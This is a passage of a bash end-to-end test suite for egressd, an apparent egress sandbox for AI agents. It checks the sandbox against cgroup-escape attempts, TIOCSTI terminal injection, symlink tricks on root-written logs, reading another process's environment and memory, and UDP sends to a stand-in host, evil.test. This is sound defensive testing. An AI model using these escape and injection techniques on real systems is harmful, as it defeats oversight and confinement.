		grep -q "SURVIVED\|LEFT" <<<"$out" &&
			fail "after the $how, the killed run's cgroup and command remain: $(oneline "$out")"
		grep -q "the next run failed\|cleanup failed" <<<"$out" &&
			fail "$how: $(oneline "$out") $(oneline "$(tail -3 "$dir/egressd.err")")"
	done
	cat "$dir/egressd.err" >>"$CASE_STDERR"
	return 0
}

# Started from a cgroup delegated to the agent's user (a desktop terminal
# under user@UID.service), the run's cgroup must not be below it: the
# agent could write itself back into it, out of enforcement. A fresh
# network namespace with only loopback (unshare --net keeps /sys, so the
# agent sees the cgroup tree); the agent makes no connection at all.
case_run_from_delegated_cgroup() {
	need_egressd
	local dcg=/egressd-e2e-deleg-$$ gof=$E2E_DIR/run/deleg.go outf=$E2E_DIR/run/deleg.out
	local mnt wpid i
	mnt=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)
	[ -n "$mnt" ] || skip "no cgroup2 mount visible to the agent"
	trap "cg_kill_remove $dcg" EXIT
	cg_run "mkdir -p \"\$CG$dcg\" && chown nobody \"\$CG$dcg\" \"\$CG$dcg/cgroup.procs\" \
		\"\$CG$dcg/cgroup.threads\" \"\$CG$dcg/cgroup.subtree_control\"" ||
		fail "cannot make a delegated cgroup $dcg"
	rm -f "$gof"
	: >"$outf"
	chmod 666 "$outf"
	(exec sh -c 'while [ ! -e "$1" ]; do sleep 0.05; done
		exec unshare --net "$2" run --user nobody --allow allowed.test -- sh -c "
			echo \$\$ >$3$4/cgroup.procs 2>/dev/null && echo moved || echo refused
			grep ^0:: /proc/self/cgroup" >"$5"' \
		sh "$gof" "$EGRESSD" "$mnt" "$dcg" "$outf" </dev/null 2>>"$CASE_STDERR") &
	wpid=$!
	bed_track $wpid
	cg_run "echo $wpid >\"\$CG$dcg/cgroup.procs\"" || fail "cannot move $wpid into $dcg"
	touch "$gof"
	wait $wpid
	note "agent: $(oneline "$(cat "$outf")")"
	grep -qx refused "$outf" || fail "the agent moved itself out of its run's cgroup: $(oneline "$(cat "$outf")")"
	grep -q "^0::.*/egressd\.run\.[0-9]*\$" "$outf" ||
		fail "the agent is not in its run's cgroup: $(oneline "$(cat "$outf")")"
	grep -q "^0::$dcg/egressd\.run\." "$outf" &&
		fail "the run's cgroup is below the delegated one: $(oneline "$(cat "$outf")")"
	return 0
}

# A cgroup the agent's user can write ABOVE the root-owned one egressd is
# started from: the kernel lets a process move if its user can write the
# cgroup.procs of the destination and of the common ancestor, whatever the
# cgroups in between. The run's cgroup must go above the writable one; on
# the build before, it went below the root-owned one and the agent wrote
# itself into the writable one, out of enforcement.
case_run_writable_ancestor() {
	need_egressd
	local dcg=/egressd-e2e-revdeleg-$$ gof=$E2E_DIR/run/revdeleg.go
	local outf=$E2E_DIR/run/revdeleg.out mnt wpid
	mnt=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)
	[ -n "$mnt" ] || skip "no cgroup2 mount visible to the agent"
	trap "cg_kill_remove $dcg" EXIT
	cg_run "mkdir -p \"\$CG$dcg/rootowned\" && chown nobody \"\$CG$dcg\" \"\$CG$dcg/cgroup.procs\"" ||
		fail "cannot make $dcg (nobody's) with $dcg/rootowned (root's)"
	rm -f "$gof"
	: >"$outf"
	chmod 666 "$outf"
	(exec sh -c 'while [ ! -e "$1" ]; do sleep 0.05; done
		exec unshare --net "$2" run --user nobody --allow allowed.test -- sh -c "
			echo \$\$ >$3$4/cgroup.procs 2>/dev/null && echo moved || echo refused
			grep ^0:: /proc/self/cgroup" >"$5"' \
		sh "$gof" "$EGRESSD" "$mnt" "$dcg" "$outf" </dev/null 2>>"$CASE_STDERR") &
	wpid=$!
	bed_track $wpid
	cg_run "echo $wpid >\"\$CG$dcg/rootowned/cgroup.procs\"" ||
		fail "cannot move $wpid into $dcg/rootowned"
	touch "$gof"
	wait $wpid
	note "agent: $(oneline "$(cat "$outf")")"
	grep -qx refused "$outf" ||
		fail "the agent moved itself into $dcg, out of its run's cgroup: $(oneline "$(cat "$outf")")"
	grep -q "^0::.*/egressd\.run\.[0-9]*\$" "$outf" ||
		fail "the agent is not in its run's cgroup: $(oneline "$(cat "$outf")")"
	grep -q "^0::$dcg/" "$outf" &&
		fail "the run's cgroup is below the writable $dcg: $(oneline "$(cat "$outf")")"
	return 0
}

# A cgroup namespace whose root is delegated to the agent's user (egressd
# started inside `unshare -C` from a cgroup nobody owns, cgroup2 mounted
# there again, in a mount namespace of its own): every cgroup egressd could make is below a root the agent can
# write. egressd must refuse to start (exit 2, saying why), not run the
# command; on the build before, it ran it below that root and the agent
# wrote itself into the root, out of enforcement.
case_run_delegated_cgroupns() {
	need_egressd
	local dcg=/egressd-e2e-nsdeleg-$$ gof=$E2E_DIR/run/nsdeleg.go
	local outf=$E2E_DIR/run/nsdeleg.out errf=$E2E_DIR/run/nsdeleg.err mnt wpid rc
	mnt=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)
	[ -n "$mnt" ] || skip "no cgroup2 mount visible"
	trap "cg_kill_remove $dcg" EXIT
	cg_run "mkdir -p \"\$CG$dcg\" && chown nobody \"\$CG$dcg\" \"\$CG$dcg/cgroup.procs\"" ||
		fail "cannot make $dcg (nobody's)"
	rm -f "$gof"
	: >"$outf"
	chmod 666 "$outf"
	(exec sh -c 'while [ ! -e "$1" ]; do sleep 0.05; done
		exec unshare --net --cgroup --mount --propagation private sh -c '\''
			umount -l "$2" && mount -t cgroup2 cgroup2 "$2" ||
				{ echo "cannot mount cgroup2" >&2; exit 99; }
			exec "$1" run --user nobody --allow allowed.test -- sh -c "
				echo \$\$ >$2/cgroup.procs 2>/dev/null && echo moved || echo refused
				grep ^0:: /proc/self/cgroup" >"$3"'\'' sh "$2" "$3" "$4"' \
		sh "$gof" "$EGRESSD" "$mnt" "$outf" </dev/null 2>"$errf") &
	wpid=$!
	bed_track $wpid
	cg_run "echo $wpid >\"\$CG$dcg/cgroup.procs\"" || fail "cannot move $wpid into $dcg"
	touch "$gof"
	wait $wpid
	rc=$?
	cat "$errf" >>"$CASE_STDERR"
	note "exit $rc: $(oneline "$(cat "$errf")")"
	[ $rc -ne 99 ] || fail "cannot mount cgroup2 in a cgroup namespace: $(oneline "$(cat "$errf")")"
	grep -q moved "$outf" &&
		fail "the agent moved itself to the namespace's root, out of its run's cgroup: $(oneline "$(cat "$outf")")"
	[ -s "$outf" ] && fail "the command ran: $(oneline "$(cat "$outf")")"
	[ $rc -eq 2 ] || fail "exit status $rc, want 2: $(oneline "$(cat "$errf")")"
	grep -q "can write $mnt/cgroup.procs" "$errf" ||
		fail "the refusal does not say why: $(oneline "$(cat "$errf")")"
	# shellcheck disable=SC2016
	cg_run 'ls -d "$CG'"$dcg"'"/egressd.run.* 2>/dev/null' &&
		fail "a cgroup was left in $dcg"
	return 0
}

# Landlock scoping (docs/local.md). scope_check OUT: OUT (scope_probe.py
# probe) says the other process was refused everything and the prober's
# own processes were not.
scope_check() {
	local what
	for what in outside-environ outside-mem outside-signal outside-abstract; do
		grep -qx "$what refused 1\|$what refused 13" <<<"$1" ||
			fail "$what not refused: $(oneline "$1")"
	done
	for what in own-environ own-mem own-signal own-abstract; do
		grep -qx "$what ok" <<<"$1" || fail "$what failed: $(oneline "$1")"
	done
}

# scope_target DIR NAME [RUNNER...]: as nobody (through RUNNER, e.g.
# egressd scope), a process with a secret in its environment whose pid
# goes to DIR/target.pid, and one listening on abstract socket NAME (its
# pid in DIR/abs.ready); SCOPE_PIDS gets both. Fails the case unless both
# are up and an unscoped process of the same user can read the target's
# environment and open its memory (so what a probe is refused is
# Landlock's doing, not the bed's: no Yama, same user).
scope_target() {
	local d=$1 name=$2 out
	shift 2
	mkdir -p "$d" && chmod 777 "$d"
	outside "$@" sh -c 'echo $$ >"$1"; exec env EGR_SECRET=target-secret sleep 30' \
		sh "$d/target.pid" 2>>"$CASE_STDERR" &
	disown $! # its processes are stopped by pid at the end: no job notice
	outside "$@" "$E2E_PY" "$E2E_DIR/bin/scope_probe.py" serve "$name" "$d/abs.ready" \
		2>>"$CASE_STDERR" &
	disown $!
	bed_wait_file "$d/target.pid" 5 && bed_wait_file "$d/abs.ready" 5 ||
		fail "the target processes did not start"
	SCOPE_PIDS="$(cat "$d/target.pid") $(cat "$d/abs.ready")"
	for out in $SCOPE_PIDS; do bed_track "$out"; done
	out=$(outside sh -c 'tr "\0" "\n" <"/proc/$1/environ"
		exec 3<"/proc/$1/mem" && echo mem-open' sh "$(cat "$d/target.pid")" 2>&1)
	grep -qx EGR_SECRET=target-secret <<<"$out" && grep -qx mem-open <<<"$out" ||
		fail "an unscoped process cannot read the target's environment or memory: $(oneline "$out")"
}

scope_abi_or_skip() {
	local abi
	abi=$("$E2E_PY" -c 'import ctypes; print(ctypes.CDLL(None).syscall(444, None, 0, 1))')
	[ "${abi:-0}" -ge 6 ] || skip "Landlock ABI ${abi:-none} (< 6): abstract sockets and signals not scoped"
}

# A process of the agent's user outside the cgroup is not redirected: the
# agent must not be able to drive it. No ptrace-class access
# (/proc/PID/environ, /proc/PID/mem), no signal, no connection to its
# abstract Unix socket; the same things on the agent's own processes work.
case_run_local_scope() {
	local d=$E2E_DIR/run/scope-$$ out opid p
	scope_abi_or_skip
	scope_target "$d" egressd-e2e-abs-$$
	opid=$(cat "$d/target.pid")
	out=$(egr --allow allowed.test -- "$E2E_PY" "$E2E_DIR/bin/scope_probe.py" probe \
		"$opid" egressd-e2e-abs-$$)
	note "agent: $(oneline "$out")"
	scope_check "$out"
	kill -0 "$opid" 2>/dev/null || fail "the outside process died"
	for p in $SCOPE_PIDS; do bed_stop_pid "$p"; done
	# none of egressd's own descriptors (its cgroup directory, BPF
	# objects, sockets) reaches the agent or its monitor
	out=$(egr --allow allowed.test -- sh -c 'ls -l /proc/$$/fd/ /proc/$PPID/fd/ 2>&1')
	grep -E 'cgroup|bpf|socket:|anon_inode' <<<"$out" &&
		fail "egressd descriptors in the agent: $(oneline "$(grep -E 'cgroup|bpf|socket:|anon_inode' <<<"$out")")"
	grep -q 'Permission denied\|No such' <<<"$out" &&
		fail "cannot list the agent's descriptors: $(oneline "$out")"
	# nor what egressd inherited: a UDP socket connected to evil.test,
	# made outside the cgroup, would pass no hook of the agent's
	need_egressd
	out=$(in_host bash -c 'exec 4<>/dev/udp/'"$EVIL4"'/123 || exit 9
		exec "$1" run --user nobody --allow allowed.test -- \
			sh -c "[ -e /proc/\$\$/fd/4 ] && echo fd4-inherited || echo fd4-closed"' \
		bash "$EGRESSD" 2>>"$CASE_STDERR")
	[ "$out" = fd4-closed ] || fail "an inherited socket reached the agent: $(oneline "$out")"
	# nor signal its monitor (a stopped monitor stops egressd with it, or,
	# with no terminal, leaves the command's end unseen); that the monitor
	# still passes signals on is exit_status_passthrough's
	out=$(E2E_TIMEOUT=15 egr --allow allowed.test -- sh -c 'kill -STOP $PPID 2>&1; echo "stop=$?"')
	note "monitor: $(oneline "$out")"
	grep -q "stop=1" <<<"$out" || fail "the command stopped its monitor: $(oneline "$out")"
	return 0
}

# Pathname Unix sockets are not scoped: a service that starts processes
# for whoever connects (tmux here; Docker, Podman, systemd --user) would
# run them unenforced. egressd run names the ones the command can reach,
# checked with the command's own credentials.
case_run_warns_host_sockets() {
	local dir=/tmp/tmux-$E2E_NOBODY_UID want
	need_egressd
	[ ! -e "$dir" ] || fail "$dir exists already (a tmux server of uid $E2E_NOBODY_UID?)"
	trap 'rm -rf "'"$dir"'"' EXIT
	want="can connect to $dir/default (a tmux server)"
	outside sh -c 'mkdir -m 700 "$1" && exec "$2" -c "import socket, sys
socket.socket(socket.AF_UNIX).bind(sys.argv[1])" "$1/default"' sh "$dir" "$E2E_PY" ||
		fail "cannot make a tmux-like socket as nobody"
	: >"$CASE_STDERR"
	egr --allow allowed.test -- true || fail "the run failed: exit $?"
	grep -qF "$want" "$CASE_STDERR" ||
		fail "no warning for the socket: $(oneline "$(cat "$CASE_STDERR")")"
	note "$(grep -F "$want" "$CASE_STDERR" | head -1)"
	# not the command's to reach: no warning
	chown root "$dir"
	: >"$CASE_STDERR"
	egr --allow allowed.test -- true || fail "the second run failed: exit $?"
	grep -q "tmux" "$CASE_STDERR" &&
		fail "a warning for a socket the command cannot reach: $(oneline "$(cat "$CASE_STDERR")")"
	return 0
}

# The audit log and the policy file often sit in the user's own directory,
# and the command runs as that user. A symlink it leaves where the next
# run's log goes must not make root append to another file (a record with
# "$(...)" in its comm, appended to /etc/bash.bashrc, would run as root at
# the next login); a log or policy the command can change is warned about.
case_run_log_path_safety() {
	local d target=$E2E_DIR/run/bashrc-$$ rc
	need_egressd
	d=$(mktemp -d /tmp/egressd-agentdir.XXXXXX) || fail "mktemp"
	trap 'rm -rf "'"$d"'"' EXIT
	chown "$E2E_NOBODY_UID" "$d"
	chmod 755 "$d"
	printf 'keep\n' >"$target"
	outside ln -s "$target" "$d/egressd.log" || fail "cannot make a symlink as nobody"
	egr_raw run --user nobody --allow allowed.test --log "$d/egressd.log" -- true \
		2>"$CASE_STDERR" >/dev/null
	rc=$?
	[ "$rc" = 2 ] || fail "a log path that is the command's symlink: exit $rc, want 2"
	grep -q "egressd.log: is a symlink not owned by root" "$CASE_STDERR" ||
		fail "no reason given: $(oneline "$(cat "$CASE_STDERR")")"
	note "$(head -1 "$CASE_STDERR")"
	# a directory on the way that is the command's symlink
	outside ln -s "$E2E_DIR/run" "$d/logs" || fail "cannot make a symlink as nobody"
	egr_raw run --user nobody --allow allowed.test --log "$d/logs/bashrc-$$" -- true \
		2>"$CASE_STDERR" >/dev/null
	rc=$?
	[ "$rc" = 2 ] || fail "a log path through the command's symlink: exit $rc, want 2"
	grep -q "logs is a symlink owned by uid $E2E_NOBODY_UID" "$CASE_STDERR" ||
		fail "no reason given: $(oneline "$(cat "$CASE_STDERR")")"
	[ "$(cat "$target")" = keep ] || fail "root appended to the symlink's target"
	# a log and a policy in the command's directory: they work, with warnings
	rm -f "$d/egressd.log" "$d/logs"
	printf '{ "name": "p", "allow": ["allowed.test"] }\n' >"$d/policy.json"
	chown "$E2E_NOBODY_UID" "$d/policy.json"
	: >"$CASE_STDERR"
	egr --policy "$d/policy.json" --log "$d/egressd.log" -- \
		"${CLIENT[@]}" http http://allowed.test/ >/dev/null ||
		fail "the run failed: exit $?: $(oneline "$(cat "$CASE_STDERR")")"
	grep -q "allowed.test" "$d/egressd.log" || fail "nothing logged in $d/egressd.log"
	[ "$(stat -c %u "$d/egressd.log")" = 0 ] || fail "the log is not root's"
	grep -qF "can write $d, above $d/egressd.log: the command could delete or replace" "$CASE_STDERR" ||
		fail "no warning for the log's directory: $(oneline "$(cat "$CASE_STDERR")")"
	grep -qF "can write $d/policy.json: the command could change the policy" "$CASE_STDERR" ||
		fail "no warning for the policy file: $(oneline "$(cat "$CASE_STDERR")")"
	note "$(grep -F 'policy of the next run' "$CASE_STDERR" | head -1)"
	grep -qF "egressd itself" "$CASE_STDERR" &&
		fail "a warning for egressd's binary, which the command cannot write: $(oneline "$(cat "$CASE_STDERR")")"
	# egressd itself in the command's directory: it could put its own
	# program there, which the next sudo runs as root
	cp "$EGRESSD" "$d/egressd"
	: >"$CASE_STDERR"
	EGRESSD=$d/egressd egr -- true ||
		fail "the run failed: exit $?: $(oneline "$(cat "$CASE_STDERR")")"
	grep -qF "can write $d, above $d/egressd: the command could replace egressd itself" "$CASE_STDERR" ||
		fail "no warning for egressd's binary: $(oneline "$(cat "$CASE_STDERR")")"
	rm -f "$d/egressd"
	# further up: a root-owned directory in the command's one
	mkdir "$d/conf"
	mv "$d/policy.json" "$d/conf/policy.json"
	: >"$CASE_STDERR"
	egr --policy "$d/conf/policy.json" -- true ||
		fail "the run failed: exit $?: $(oneline "$(cat "$CASE_STDERR")")"
	grep -qF "can write $d/conf/policy.json" "$CASE_STDERR" ||
		fail "no warning for the policy file: $(oneline "$(cat "$CASE_STDERR")")"
	chown root "$d/conf/policy.json"
	chmod 700 "$d/conf" # the command cannot even look inside
	: >"$CASE_STDERR"
	egr --policy "$d/conf/policy.json" -- true ||
		fail "the run failed: exit $?: $(oneline "$(cat "$CASE_STDERR")")"
	grep -qF "can write $d, above $d/conf/policy.json" "$CASE_STDERR" ||
		fail "no warning for the directory above: $(oneline "$(cat "$CASE_STDERR")")"
	mv "$d/conf/policy.json" "$d/policy.json"
	rmdir "$d/conf"
	# the same in a directory only root writes: no warning
	chown root "$d" "$d/policy.json"
	egr_raw run --user nobody --policy "$d/policy.json" --log "$d/egressd.log" -- true \
		2>"$CASE_STDERR" >/dev/null || fail "the second run failed: exit $?"
	grep -q "can write" "$CASE_STDERR" &&
		fail "a warning for files the command cannot change: $(oneline "$(cat "$CASE_STDERR")")"
	return 0
}

# egressd run from a user's interactive shell (tty_session.py: sh -i on a
# terminal of its own). The command pushes a command line into its
# terminal's input with TIOCSTI (legacy_tiocsti allows it here): on the
# shell's terminal, the shell would run it after egressd exits, outside
# the cgroup. The command gets a terminal of its own (the user's size,
# ^C and ^Z/fg working) or, with no terminal on 0, 1 or 2, none at all.
case_run_terminal() {
	local m=$E2E_DIR/run/tiocsti-$$ out tty=$E2E_DIR/bin/tty_session.py run
	need_egressd
	# with TIOCSTI refused to everyone the attack cannot be shown
	[ "$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null || echo 1)" = 1 ] ||
		skip "dev.tty.legacy_tiocsti is 0: TIOCSTI is refused anyway"
	run="ip netns exec $NS_HOST $EGRESSD run --user nobody --allow allowed.test --"
	rm -f "$m"
	# one line: what is typed ahead goes to the command's terminal
	out=$("$E2E_PY" "$tty" shell "s1=\$(stty -g); $run $E2E_PY $tty inject 'touch $m'; echo run=\$?; [ \"\$s1\" = \"\$(stty -g)\" ] && echo TTY-SAME" \
		2>&1 | tr -d '\r') || fail "the session did not finish: $(oneline "$out")"
	note "interactive: $(oneline "$(grep -v 'netns exec' <<<"$out" |
		grep -E '(tty|[012]) (ok|refused)|ISATTY|SIZE|run=')")"
	[ ! -e "$m" ] || fail "an injected command ran in the user's shell, outside the cgroup"
	grep -q 'run=0$' <<<"$out" || fail "the run failed: $(oneline "$out")"
	grep -qx 'TTY-SAME' <<<"$out" || fail "the shell's terminal settings were not restored"
	# the injection itself worked: into a terminal of the command's own
	grep -q 'tty ok$' <<<"$out" ||
		fail "TIOCSTI into the command's own terminal failed: $(oneline "$out")"
	grep -q 'ISATTY 1$' <<<"$out" && grep -q 'SIZE 33 101$' <<<"$out" ||
		fail "the command has no terminal of the user's size: $(oneline "$out")"
	# no terminal on 0, 1 or 2 (run from the shell, output piped): no
	# controlling terminal at all, /dev/tty cannot be opened
	out=$("$E2E_PY" "$tty" shell "$run $E2E_PY $tty inject 'touch $m' </dev/null 2>&1 | cat" \
		2>&1 | tr -d '\r') || fail "the session did not finish: $(oneline "$out")"
	note "no terminal: $(oneline "$(grep -E '(tty|[012]) (ok|refused)' <<<"$out")")"
	[ ! -e "$m" ] || fail "an injected command ran in the user's shell (no terminal)"
	grep -q 'tty refused 6$' <<<"$out" ||
		fail "the command still has the shell's terminal: $(oneline "$out")"
	# raw: what the user types reaches the command's terminal byte for
	# byte (^C as 0x03 where the command reads raw itself; with the
	# user's terminal cooked it would be a SIGINT to egressd instead)
	out=$("$E2E_PY" "$tty" shell --interrupt-after READY \
		"$run sh -c 'stty raw -echo; echo READ\"\"Y; head -c1 | od -An -tx1'; echo run=\$?" \
		2>&1 | tr -d '\r') || fail "raw: the session did not finish: $(oneline "$out")"
	grep -q '^ *03 *$' <<<"$out" && grep -q 'run=0$' <<<"$out" ||
		fail "^C did not reach the command as a byte: $(oneline "$out")"
	# ^C reaches the command; ^Z stops egressd with it, fg goes on
	out=$("$E2E_PY" "$tty" shell --interrupt-after READY \
		"$run sh -c 'echo READ\"\"Y; sleep 20; echo NOT-INTERRUPTED'; echo run=\$?" 2>&1 |
		tr -d '\r') || fail "^C: the session did not finish: $(oneline "$out")"
	grep -q 'run=130$' <<<"$out" && ! grep -qx NOT-INTERRUPTED <<<"$out" ||
		fail "^C did not interrupt the command: $(oneline "$out")"
	# one process (python): with sh, ^Z can land while it is vfork()ing
	# sleep, and a vfork parent cannot stop until its child execs
	out=$("$E2E_PY" "$tty" shell --suspend-after READY \
		"$run $E2E_PY -c 'import time; print(\"READ\" + \"Y\", flush=True); time.sleep(2); print(\"AFTER-FG\")'" \
		2>&1 | tr -d '\r') ||
		fail "^Z: the session did not finish: $(oneline "$out")"
	grep -q 'Stopped' <<<"$out" && grep -q 'AFTER-FG$' <<<"$out" && grep -q 'fg=0$' <<<"$out" ||
		fail "^Z/fg: $(oneline "$out")"
	return 0
}

# Agents the daemon enforces run under `egressd scope` (agent@.service).
# Two of them as the same user, each its own tenant: one cannot read the
# other's environment or memory, signal it, or reach its abstract socket;
# its own processes it can.
case_scope_separates_agents() {
	local d=$E2E_DIR/run/scope2-$$ out bpid p
	need_egressd
	scope_abi_or_skip
	scope_target "$d" egressd-e2e-agentb-$$ "$EGRESSD" scope --
	bpid=$(cat "$d/target.pid")
	out=$(outside "$EGRESSD" scope -- "$E2E_PY" "$E2E_DIR/bin/scope_probe.py" probe \
		"$bpid" egressd-e2e-agentb-$$ 2>&1)
	note "agent a: $(oneline "$out")"
	scope_check "$out"
	out=$(outside "$EGRESSD" scope -- sh -c 'exit 7' 2>&1)
	[ $? -eq 7 ] || fail "egressd scope did not pass the exit status on: $(oneline "$out")"
	out=$(outside "$EGRESSD" scope -- /nonexistent 2>&1)
	[ $? -eq 127 ] || fail "egressd scope: a missing command is not 127: $(oneline "$out")"
	for p in $SCOPE_PIDS; do bed_stop_pid "$p"; done
	return 0
}

# ---------------------------------------------------------------------
# egressd daemon: bindings by cgroup glob, deny-all for unbound cgroups,
# fail closed when killed, adoption of the pinned programs on restart,
# reload (an invalid file leaves the running config). Its own cgroups
# (egressd-e2e-daemon-*) and bpffs; all removed at the end.

DAEMON_PORT=15001

daemon_start() {
	# a restart's stderr already has the first daemon's line: wait for one more
	local before
	before=$(grep -c "serving on port" "$CASE_STDERR" 2>/dev/null)
	# DSTDOUT=FILE: its standard output there, apart from its stderr
	ip netns exec "$NS_HOST" "$EGRESSD" daemon --config "$DCFG" --bpffs "$DBPF" \
		--port $DAEMON_PORT 2>>"$CASE_STDERR" >>"${DSTDOUT:-$CASE_STDERR}" &
	DPID=$!
	disown $DPID # its SIGKILL below is on purpose: no job notice
	bed_track $DPID
	local i
	for ((i = 0; i < 50; i++)); do
		[ "$(grep -c "serving on port" "$CASE_STDERR" 2>/dev/null)" -gt "${before:-0}" ] &&
			return 0
		kill -0 $DPID 2>/dev/null || return 1
		sleep 0.1
	done
	return 1
}

# daemon_bed CGTAG BPFFS CONFIG SUBDIR: a daemon case's cgroup
# (/egressd-e2e-CGTAG-PID, with SUBDIR below it), bpffs ($E2E_DIR/BPFFS,
# mounted) and config path ($E2E_DIR/CONFIG.json), removed on exit.
daemon_bed() {
	DCG=/egressd-e2e-$1-$$
	DBPF=$E2E_DIR/$2
	DCFG=$E2E_DIR/$3.json
	trap daemon_cleanup EXIT
	mkdir -p "$DBPF" && mount -t bpf bpf "$DBPF" || fail "cannot mount a bpffs"
	cg_run 'mkdir -p "$CG'"$DCG"'/'"$4"'"' || fail "cannot create the test cgroup"
}

# daemon_binding CGROUP: the case daemon's egr_cgroups entry for CGROUP
# (its id is its directory's inode); fails if it has none.
daemon_binding() {
	local ino
	ino=$(cg_run 'stat -c %i "$CG'"$1"'"') || return 1
	# shellcheck disable=SC2046
	bpftool map lookup pinned "$DBPF/egressd/egr_cgroups" key $("$E2E_PY" -c '
import struct, sys
print(" ".join(str(b) for b in struct.pack("<Q", int(sys.argv[1]))))' "$ino") 2>&1
}

# in_ns_cg NETNS CGROUP CMD...: CMD as nobody in CGROUP, inside NETNS.
in_ns_cg() {
	local ns=$1 cg=$2
	shift 2
	timeout -k 3 "$E2E_TIMEOUT" ip netns exec "$ns" unshare -m sh -c '
		mount -t cgroup2 none /sys/fs/cgroup &&
		echo $$ >"/sys/fs/cgroup$0/cgroup.procs" &&
		exec setpriv --reuid='"$E2E_NOBODY_UID"' --regid='"$E2E_NOBODY_GID"' \
			--clear-groups "$@"' "$cg" "$@" </dev/null 2>&1
}

# in_cg CGROUP CMD...: CMD as nobody in CGROUP, in the runner namespace.
in_cg() { in_ns_cg "$NS_HOST" "$@"; }

# cg_kill_remove CGROUP: kill every process below CGROUP (relative to the
# cgroup2 mount) and remove it with its subtree, retrying for up to 2 s
# while the killed processes exit (a case that failed may leave its agent
# running there).
cg_kill_remove() {
	# only the bed's own cgroups: never the hierarchy's root or the
	# machine's (an empty argument would make $d the root); -execdir:
	# a tree deeper than PATH_MAX (daemon_walk_deep_tree) goes too
	case $1 in
	/egressd-e2e-?*) ;;
	*) echo "cg_kill_remove: refusing '$1'" >&2; return 1 ;;
	esac
	# shellcheck disable=SC2016
	cg_run 'd=$CG'"$1"'; [ ! -d "$d" ] || { echo 1 >"$d/cgroup.kill" 2>/dev/null;
		for i in $(seq 20); do
			find "$d" -depth -type d -execdir rmdir {} \; 2>/dev/null
			[ -d "$d" ] || break; sleep 0.1; done; }; true'
}

daemon_cleanup() {
	[ -n "${DPID:-}" ] && bed_stop_pid "$DPID"
	rm -rf "$DBPF/egressd" 2>/dev/null
	umount "$DBPF" 2>/dev/null
	cg_kill_remove "$DCG"
}

# A daemon starting over the pins of one that died: the dead one's
# bindings name policy ids of its config, which the new one fills in its
# own order. Until the new one has bound each cgroup again, a cgroup still
# bound would be judged by another tenant's policy (in the kernel too: an
# audit-mode policy lets UDP pass). So the new daemon forgets every binding
# before it serves its port: shown with a start that cannot listen (the
# port is taken), which must leave the cgroup denied everything (EPERM at
# connect) rather than bound to an id the next config reuses.
case_daemon_restart_forgets_bindings() {
	need_egressd
	local out blocker lo
	daemon_bed restart bpffs-restart daemon-restart agents
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$E2E_DIR/ctl/restart.sock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "strict": { "mode": "enforce", "allow": ["allowed.test"] },
                "lax": { "mode": "audit", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/strict*", "policy": "strict" },
                { "cgroup": "$DCG/agents/lax*", "policy": "lax" } ] }
JSON
	cg_run 'mkdir "$CG'"$DCG"'/agents/strict1"' || fail "cannot create the cgroup"
	# pins of an older build: its event ring had another size (a pinned
	# map of another size cannot be adopted, so the ring is not pinned)
	mkdir -p "$DBPF/egressd" &&
		bpftool map create "$DBPF/egressd/egr_events" type ringbuf key 0 value 0 \
			entries 262144 name egr_events ||
		fail "cannot pin an old-sized event ring"
	# a port the kernel could hand an enforced process while the daemon
	# restarts: said (the bind hooks see only explicit binds)
	read -r lo _ </proc/sys/net/ipv4/ip_local_port_range
	out=$("$EGRESSD" daemon --check --config "$DCFG" --port $((lo + 1)) 2>&1) ||
		fail "--check failed: $(oneline "$out")"
	grep -q "port $((lo + 1)) is in the kernel's ephemeral range" <<<"$out" ||
		fail "no warning for a port in the ephemeral range: $(oneline "$out")"
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	[ ! -e "$DBPF/egressd/egr_events" ] || fail "the old event ring's pin is still there"
	grep -q "ephemeral range" "$CASE_STDERR" && fail "a warning for port $DAEMON_PORT"
	kill -9 "$DPID"
	wait "$DPID" 2>/dev/null
	DPID=
	# the dead daemon's programs redirect to its dead port
	out=$(in_cg "$DCG/agents/strict1" "${CLIENT[@]}" raw "$ALLOWED4" 443 --no-read)
	[ "$(jget errname <<<"$out")" = ECONNREFUSED ] ||
		fail "with the daemon dead: $(oneline "$out")"
	# the policies in the other order; the port taken (by root, outside
	# any enforced cgroup): this start stops before it serves
	sed -i 's/"strict": { "mode": "enforce", "allow": \["allowed.test"\] },/"tmp": 0,/; s/"lax": { "mode": "audit", "allow": \["allowed.test"\] } },/"lax": { "mode": "audit", "allow": ["allowed.test"] }, "strict": { "mode": "enforce", "allow": ["allowed.test"] } },/; s/"tmp": 0,//' "$DCFG"
	grep -q '"lax".*"strict"' "$DCFG" || fail "config not reordered: $(oneline "$(cat "$DCFG")")"
	ip netns exec "$NS_HOST" "$E2E_PY" -c 'import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); time.sleep(30)' "$DAEMON_PORT" &
	blocker=$!
	bed_track $blocker
	sleep 0.3
	daemon_start && fail "the daemon started on a port in use"
	bed_stop_pid $blocker
	note "$(grep -F "cleared" "$CASE_STDERR" | tail -1)"
	out=$(in_cg "$DCG/agents/strict1" "${CLIENT[@]}" raw "$ALLOWED4" 443 --no-read)
	[ "$(jget errname <<<"$out")" = EPERM ] ||
		fail "strict1 is still bound to the dead daemon's policy id: $(oneline "$out")"
	# and a daemon that does start binds it anew, to its own id
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	out=$(in_cg "$DCG/agents/strict1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "strict1 -> allowed.test after the restart: $(oneline "$out")"
	log_mark evil.test
	out=$(in_cg "$DCG/agents/strict1" "$E2E_PY" "$E2E_DIR/bin/client.py" udp "$EVIL4" 443) &&
		fail "strict1 got the audit-mode policy: UDP to evil.test:443 was sent"
	evil_untouched "restart with the policies reordered"
}

# A cgroup flooding denied sends: every one is a kernel event, and each
# must reach the audit log (one agent's flood must not push its own, or
# another tenant's, decisions out of the kernel's ring before the daemon
# drains it).
case_daemon_kernel_events_flood() {
	need_egressd
	local out n want=6000
	daemon_bed flood bpffs-flood daemon-flood agents
	cat >"$DCFG" <<JSON
